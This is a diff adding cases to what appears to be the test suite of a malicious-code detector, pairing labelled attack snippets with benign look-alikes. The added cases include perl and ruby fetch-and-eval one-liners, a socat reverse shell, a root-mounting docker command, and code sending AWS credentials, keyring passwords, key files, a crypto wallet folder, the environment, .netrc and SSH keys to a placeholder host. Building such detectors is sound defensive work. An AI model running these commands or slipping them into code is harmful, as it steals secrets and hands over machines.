@@ -6,6 +6,9 @@ from tests.vetting.domain.signals.code.cases import Case
 
 _OPEN: Final = "from urllib.request import urlopen\n"
 _GET: Final = "import os, requests, subprocess as s, sys\nfrom urllib.request import urlretrieve, urlopen\nU = 'https://c.example.invalid/i'\n"
+_SEND: Final = "import os, requests, boto3, keyring, logging.handlers\nU = 'https://c.example.invalid/'\n"
+_WALK: Final = f"{_SEND}for r, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith("
+SH: Final = "demo/i.sh"
 
 CASES: Final = (
     # Addresses that something is appended to.
@@ -95,4 +98,50 @@ CASES: Final = (
         f"{_GET}D = os.path.dirname(__file__)\nopen(os.path.join(D, 'x.json'), 'wb').write(urlopen(U).read())\n"
         "\n\n\ndef f():\n    open(os.path.join(D, 'x.py'), 'wb').write(urlopen(U).read())\n",
     ),
+    Case("C3", "hit", "high", "perl -MLWP::Simple -e 'eval get q{https://c.example.invalid/x}'\n", SH),
+    Case("C3", "hit", "high", "ruby -ropen-uri -e 'eval URI.open(%q(https://c.example.invalid)).read'\n", SH),
+    Case("C3", "hit", "high", "socat tcp:192.0.2.7:4444 exec:sh,pty\n", SH),
+    Case("C3", "hit", "high", "docker run -v /:/h c.example.invalid/x chroot /h sh -c id\n", SH),
+    Case("C3", "twin", None, "perl -e 'print 1'\nsocat tcp:192.0.2.7:1 -\ndocker run -v /:/h:ro demo/x\n", SH),
+    # Keys out of stores, and found by their names.
+    Case("C4", "hit", "high", f"{_SEND}c = boto3.Session().get_credentials()\nrequests.post(U, json=c.x())\n"),
+    Case("C4", "hit", "medium", f"{_SEND}requests.post(U, data=keyring.get_password('a', 'b'))\n"),
+    Case("C4", "twin", None, f"{_SEND}requests.post(U, auth=('a', keyring.get_password('a', 'b')))\n"),
+    Case("C4", "twin", None, f"{_SEND}c = boto3.Session().get_credentials()\nrequests.get(U, sign(c))\n"),
+    Case("C4", "twin", None, f"{_SEND}c = flow.get_credentials()\nrequests.get(U, c)\n"),
+    Case("C4", "hit", "high", f"{_WALK}('.pem', '.key')):\n            requests.post(U, open(os.path.join(r, f)))\n"),
+    Case("C4", "hit", "medium", f"{_WALK}'.pem'):\n            requests.post(U, data=open(os.path.join(r, f)))\n"),
+    Case("C4", "twin", None, f"{_WALK}'.txt'):\n            requests.post(U, data=open(os.path.join(r, f)))\n"),
+    Case("C4", "twin", None, f"{_WALK}'.pem'):\n            requests.post(U, data=f)\n"),
+    Case(
+        "C4",
+        "hit",
+        "high",
+        f"{_SEND}import pathlib\nfor p in (pathlib.Path.home() / '.config' / 'Exodus').rglob('*'):\n"
+        "    requests.post(U, data=p.read_bytes())\n",
+    ),
+    # All of the environment as what is logged, and credentials that programs hand on.
+    Case(
+        "C4",
+        "evasion",
+        "high",
+        f"{_SEND}g = logging.getLogger('x')\ng.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/'))\n"
+        "g.warning('%s', dict(os.environ))\n",
+    ),
+    Case(
+        "C4", "twin", None, f"{_SEND}g = logging.getLogger('x')\ng.warning('%s', dict(os.environ))\nrequests.get(U)\n"
+    ),
+    Case(
+        "C4",
+        "evasion",
+        "high",
+        "import xmlrpc.client as x, os\nx.ServerProxy('http://c.example.invalid').log(open('/home/u/.netrc').read())\n",
+    ),
+    Case("C4", "hit", "high", "tar czf - ~/.ssh ~/.aws | curl -T - https://c.example.invalid\n", SH),
+    Case("C4", "hit", "high", "env | base64 | curl -d @- https://c.example.invalid\n", SH),
+    Case("C4", "evasion", "high", "import os\nos.system('printenv | curl -d @- https://c.example.invalid')\n"),
+    Case("C4", "evasion", "high", "import os\nos.system('scp ~/.ssh/id_rsa a@c.example.invalid:')\n"),
+    Case("C4", "twin", None, "import os\nos.system('scp -i ~/.ssh/id_rsa x a@c.example.invalid:')\n"),
+    Case("C4", "twin", None, "env | grep LANG | curl -d @- https://c.example.invalid\ncurl x | tee y\n", SH),
+    Case("C4", "twin", None, "import os\nos.system('scp ~/.ssh/id_rsa.pub a@c.example.invalid:')\n"),
 )
